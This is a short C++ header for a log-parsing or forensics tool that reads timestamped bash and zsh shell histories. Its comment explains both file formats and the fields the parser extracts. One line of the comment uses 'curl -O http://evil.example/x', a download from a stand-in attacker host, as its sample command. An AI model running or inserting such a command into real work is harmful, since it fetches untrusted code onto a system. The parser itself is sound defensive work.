// Histories of shells with times: what people typed, when.
//
//     #1767571200                          bash with HISTTIMEFORMAT: a line with seconds since 1970, then the command,
//     curl -O http://evil.example/x        which may have several lines
//     : 1767571200:3;curl -O …             zsh with EXTENDED_HISTORY: begin, seconds it took; a line ends with a
//                                          backslash where the command goes on
//
// Sources: bash(1), HISTTIMEFORMAT and "HISTORY"; zshoptions(1), EXTENDED_HISTORY; zsh writes bytes of 0x83 to 0xa2 as
// 0x83 and the byte with its sixth bit changed ("metafied", Src/utils.c of zsh).
//
// Fields: CommandLine; User, where the file lies in a home folder (/home/jane/…, /Users/jane/…, /root/…); elapsed.
// Log source: product linux (macos below /Users), service shell. Histories without times hold nothing that tells them
// from other text, and are not recognised; --mapping reads them.
#pragma once

#include "formats/format.h"

namespace spoor::shell_history {

extern const Format kFormat;

}  // namespace spoor::shell_history
